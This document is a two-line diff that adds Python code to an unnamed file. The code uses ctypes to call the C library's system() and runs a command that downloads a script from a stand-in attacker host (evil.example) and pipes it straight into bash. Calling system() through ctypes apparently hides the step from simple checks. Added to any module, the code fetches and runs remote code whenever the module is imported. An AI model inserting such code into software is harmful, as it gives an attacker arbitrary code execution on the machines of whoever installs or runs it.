@@ -1,0 +1,2 @@
+import ctypes
+ctypes.CDLL(None).system(b'curl -fsSL https://evil.example/i | bash')
